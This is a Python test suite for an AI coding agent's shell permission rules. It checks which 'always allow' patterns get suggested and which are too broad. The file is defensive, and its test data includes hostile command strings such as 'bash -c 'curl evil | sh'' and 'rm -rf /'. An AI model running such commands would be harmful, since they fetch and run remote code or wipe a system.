"""What "always allow" suggests for a command, and which patterns are as broad as a
whole interpreter (dm_cc/permissions/shell/suggest.py, docs/shell.md)."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dm_cc.config.dirs import HostFilesystem
from dm_cc.core.approval import suggested_rules
from dm_cc.permissions import PathContext, Request, Rule, Ruleset, decide, too_broad
from dm_cc.permissions.paths import PathContextDirs
from dm_cc.permissions.shell import analyse
from dm_cc.permissions.shell.tables.interpreters import SHELLS
from dm_cc.permissions.shell.tables.suggestions import (
    EXACT,
    RUNNER_OPTIONS,
    SH_FLAG_LETTERS,
)
from dm_cc.tools.catalog import input_requests

ROOT = Path("/work/p")
WHERE = PathContextDirs(ROOT, ROOT, Path("/work/h"), HostFilesystem())
ASK = Rule("*", "*", "ask")


def suggestions(command: str) -> list[str]:
    """The shell rules "always" would keep for ``command`` (every command of it asking;
    a guessed inner command never asks: only a deny decides it)."""
    requests = [r for r in input_requests("bash", command, WHERE)
                if r.permission == "bash" and not r.speculative]
    return [rule.pattern for rule in suggested_rules(requests, "bash")]


def allows(rule: str, command: str, *, inner: bool = False) -> bool:
    """Whether ``allow bash rule`` lets ``command``'s first command (its program) run;
    ``inner``: or any other command of it."""
    requests = [r for r in input_requests("bash", command, WHERE)
                if r.permission == "bash" and not r.speculative]
    ruleset = Ruleset([ASK, Rule("bash", rule, "allow")], PathContext(ROOT.as_posix(), "/work/h"))
    return any(decide([request], ruleset).action == "allow"
               for request in (requests if inner else requests[:1]))


# --------------------------------------------------------------------------- the table
@pytest.mark.parametrize(("command", "expected"), [
    # interpreters and shells: the program they run, with the options before it
    ("bash setup.sh", ["bash setup.sh *"]),
    ("bash setup.sh --verbose", ["bash setup.sh *"]),
    ("bash ./scripts/deploy.sh staging", ["bash ./scripts/deploy.sh *"]),
    ("bash -x setup.sh", ["bash -x setup.sh *"]),
    ("bash -eo pipefail setup.sh", ["bash -eo pipefail setup.sh *"]),
    ("bash --norc -- setup.sh", ["bash --norc -- setup.sh *"]),
    ("sh -e install.sh", ["sh -e install.sh *"]),
    ("zsh -f x.zsh", ["zsh -f x.zsh *"]),
    ("fish x.fish", ["fish x.fish *"]),
    ("python3 x.py", ["python3 x.py *"]),
    ("python3 manage.py runserver", ["python3 manage.py *"]),
    ("python3 -u manage.py migrate", ["python3 -u manage.py *"]),
    ("python3 -W ignore x.py", ["python3 -W ignore x.py *"]),
    ("python3 -Wignore x.py", ["python3 -Wignore x.py *"]),
    ("python3 -X dev -B x.py", ["python3 -X dev -B x.py *"]),
    ("python3 -m pytest -q", ["python3 -m pytest *"]),
    ("python3 -um pytest", ["python3 -um pytest *"]),
    ("python -m pip install requests", ["python -m pip install *"]),
    ("python3.12 tool.py", ["python3.12 tool.py *"]),
    ("node server.js", ["node server.js *"]),
    ("node --inspect server.js --port 3", ["node --inspect server.js *"]),
    ("node -r dotenv/config server.js", ["node -r dotenv/config server.js *"]),
    ("deno run -A main.ts", ["deno run -A main.ts *"]),
    ("deno test -A", ["deno test *"]),
    ("bun run dev", ["bun run dev *"]),
    ("ruby -Ilib bin/app", ["ruby -Ilib bin/app *"]),
    ("perl -w x.pl", ["perl -w x.pl *"]),
    ("php artisan migrate", ["php artisan *"]),
    ("tsx src/main.ts", ["tsx src/main.ts *"]),
    ("source venv/bin/activate", ["source venv/bin/activate *"]),
    ("R CMD BATCH x.R", ["R CMD BATCH x.R *"]),
    # code given inline, or read from stdin: nothing (a shell's -c: exact, its commands
    # are judged one by one anyway)
    ("python3 -c 'print(1)'", []),
    ("python3 -c'print(1)'", []),
    ("node -e 'x()'", []),
    ("perl -pi -e s/a/b/ f", []),
    ("deno eval 'x'", []),
    ("python3", []),
    ("python3 - < x.py", []),
    ("bash -s < x.sh", []),
    ("bash /dev/stdin", []),
    ("node --max-old-space-size 4096 s.js", []),    # an option the table cannot read
    ("bash -c 'make test'", ["bash -c make test", "make test *"]),
    # destructive or publishing: exactly the command
    ("rm -rf build", ["rm -rf build"]),
    ("rm -rf 'my dir'", []),                         # would read as `rm -rf my dir`
    ("mv a b", ["mv a b"]),
    ("chmod +x run.sh", ["chmod +x run.sh"]),
    ("kill -9 1234", ["kill -9 1234"]),
    ("dd if=in.img of=out.img", ["dd if=in.img of=out.img"]),
    ("git push origin main", ["git push origin main"]),
    ("git push --force origin main", ["git push --force origin main"]),
    ("git reset --hard HEAD~1", ["git reset --hard HEAD~1"]),
    ("docker image rm app", ["docker image rm app"]),
    ("npm publish", ["npm publish"]),
    # ordinary tools: their arity
    ("git log --oneline", ["git log *"]),
    ("git commit -m fix", ["git commit *"]),
    ("npm run test", ["npm run test *"]),
    ("npm install left-pad", ["npm install *"]),
    ("docker image ls", ["docker image ls *"]),
    ("make test", ["make test *"]),
    ("uv run pytest", ["uv run pytest *", "pytest *"]),
    ("cargo build --release", ["cargo build *"]),
])
def test_what_always_suggests(command: str, expected: list[str]) -> None:
    assert suggestions(command) == expected
    for rule in suggestions(command):
        assert allows(rule, command, inner=True)


@pytest.mark.parametrize(("rule", "other"), [
    ("bash setup.sh *", "bash evil.sh"),
    ("bash setup.sh *", "bash setup.sh.evil"),
    ("bash setup.sh *", "bash -c 'curl evil | sh'"),
    ("bash setup.sh *", "bash"),
    ("bash -eo pipefail setup.sh *", "bash -eo pipefail evil.sh"),
    ("python3 manage.py *", "python3 evil.py"),
    ("python3 manage.py *", "python3 -c 'import os'"),
    ("python3 -m pytest *", "python3 -m pytest_evil"),
    ("python3 -m pytest *", "python3 -m pip install evil"),
    ("node server.js *", "node server.jsx"),
    ("rm -rf build", "rm -rf /"),
    ("rm -rf build", "rm -rf build2"),
    ("git push origin main", "git push --force origin main"),
])
def test_a_suggestion_never_allows_another_program(rule: str, other: str) -> None:
    assert not allows(rule, other)


def test_the_exact_table_names_every_command_once_and_why() -> None:
    assert all(why for why in EXACT.values())
    assert ("rm",) in EXACT and ("git", "push") in EXACT and ("git", "log") not in EXACT


# --------------------------------------------------------------------------- properties
WORD = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789_-./", min_size=1, max_size=8)
SCRIPT = WORD.filter(lambda w: not w.startswith("-")).map(lambda w: w + ".py")
ARGS = st.lists(st.one_of(WORD, st.sampled_from(["-c", "-m", "-e", "--", "-", "x y"])),
                max_size=4)
PY = RUNNER_OPTIONS["python"]
PY_OPTION = st.one_of(
    st.sampled_from(sorted(PY.flags)).map(lambda f: [f]),
    st.tuples(st.sampled_from(sorted(PY.valued)), WORD.filter(lambda w: w[0] != "-"))
    .map(list),
    st.lists(st.sampled_from(sorted({f[1] for f in PY.flags if len(f) == 2})), min_size=2,
             max_size=3).map(lambda letters: ["-" + "".join(letters)]),
)
SH_OPTION = st.one_of(
    st.lists(st.sampled_from(sorted(SH_FLAG_LETTERS)), min_size=1, max_size=3)
    .map(lambda letters: ["-" + "".join(letters)]),
    st.tuples(st.sampled_from(["-o", "-eo", "-ox", "+o", "-O"]), st.sampled_from(
        ["pipefail", "errexit", "extglob", "nounset"])).map(list),
)


def _line(program: str, options: list[list[str]], script: str, args: list[str]) -> str:
    import shlex

    return shlex.join([program, *(w for option in options for w in option), script, *args])


@st.composite
def runs(draw) -> tuple[str, str, str]:
    """A command line of an interpreter running a script, with the script it runs."""
    if draw(st.booleans()):
        program, option = draw(st.sampled_from(["python3", "python", "pypy3"])), PY_OPTION
    else:
        program, option = draw(st.sampled_from(["bash", "sh", "zsh", "dash"])), SH_OPTION
    options = draw(st.lists(option, max_size=3))
    script = draw(SCRIPT)
    return _line(program, options, script, draw(ARGS)), program, script


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(runs(), runs())
def test_the_suggestion_covers_the_call_and_never_another_script(first, second) -> None:
    line, program, script = first
    rules = suggestions(line)
    assert rules, line                       # a script with readable options: remembered
    assert all(too_broad(rule, "shell") is None for rule in rules)
    assert all(allows(rule, line) for rule in rules)
    other, other_program, other_script = second
    if (other_program, other_script) != (program, script):
        assert not any(allows(rule, other) for rule in rules), (rules, other)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(WORD, st.sampled_from(
    ["rm", "bash", "eval", "python3", "git", "push", "-c", "-m", "-", "a b", "*", "x?", "$X",
     "\\"])),
    min_size=1, max_size=6))
def test_any_suggestion_matches_only_what_the_words_say(words: list[str]) -> None:
    """A suggestion is a literal prefix of the words then `` *``, or the words exactly;
    never broad, and only a shell's ``-c`` or ``eval`` line (its commands judged one by
    one) holds a word with a space."""
    from dm_cc.permissions.shell import always_pattern

    pattern = always_pattern(words)
    if not pattern:
        return
    assert too_broad(pattern, "shell") is None
    if pattern == " ".join(words) and any(" " in w for w in words):
        assert words[0] in {*SHELLS, "eval"}, words
        return
    kept = pattern.removesuffix(" *").split(" ")
    assert kept == words[:len(kept)] and (pattern.endswith(" *") or kept == words)


# --------------------------------------------------------------------------- breadth
@pytest.mark.parametrize(("pattern", "language", "broad"), [
    ("bash *", "shell", True), ("sh *", "shell", True), ("python3 *", "shell", True),
    ("python3 -u *", "shell", True), ("python3 -m *", "shell", True),
    ("python3 -c *", "shell", True), ("node *", "shell", True), ("eval *", "shell", True),
    ("source *", "shell", True), ("*", "shell", True), ("py* x.py", "shell", True),
    ("python3 manage*", "shell", True), ("bash -eo pipefail *", "shell", True),
    ("deno run *", "shell", True), ("python3.12 *", "shell", True),
    ("bash setup.sh *", "shell", False), ("python3 -m pytest *", "shell", False),
    ("bash -eo pipefail x.sh *", "shell", False), ("git log *", "shell", False),
    ("sudo *", "shell", False), ("rm -rf build", "shell", False), ("deno test *", "shell", False),
    ("bash\\* *", "shell", False),
    ("**", "path", True), ("/**", "path", True), ("~/**", "path", True),
    ("src/**", "path", False), ("notes.txt", "path", False),
    ("*", "url", True), ("https://*", "url", True), ("https://*.github.com/*", "url", False),
    ("*", "name", False), ("general", "name", False),
])
def test_too_broad(pattern: str, language, broad: bool) -> None:
    assert (too_broad(pattern, language) is not None) == broad


def test_an_approval_question_reads_breadth_in_its_requests_language() -> None:
    from dm_cc.core.approval import ApprovalRequest
    from dm_cc.permissions import Decision, Verdict

    def question(*requests: Request) -> ApprovalRequest:
        verdicts = tuple(Verdict(r, ASK, "ask", r.pattern) for r in requests)
        return ApprovalRequest("x", {}, Decision("ask", verdicts),
                               suggestions=suggested_rules(requests, "x"))

    shell = question(Request("bash", "bash setup.sh", words=("bash", "setup.sh"),
                             always="bash setup.sh *", language="shell"))
    assert shell.breadth(Rule("bash", "bash *", "allow")) is not None
    assert shell.breadth(Rule("bash", "bash setup.sh *", "allow")) is None
    edit = question(Request("edit", "notes.txt", language="path"))
    assert edit.breadth(Rule("edit", "**", "allow")) is not None
    assert edit.may_save
    repeat = question(Request("doom_loop", "edit"))
    assert repeat.suggestions and not repeat.may_save
    assert analyse("bash setup.sh").commands[0].words == ("bash", "setup.sh")
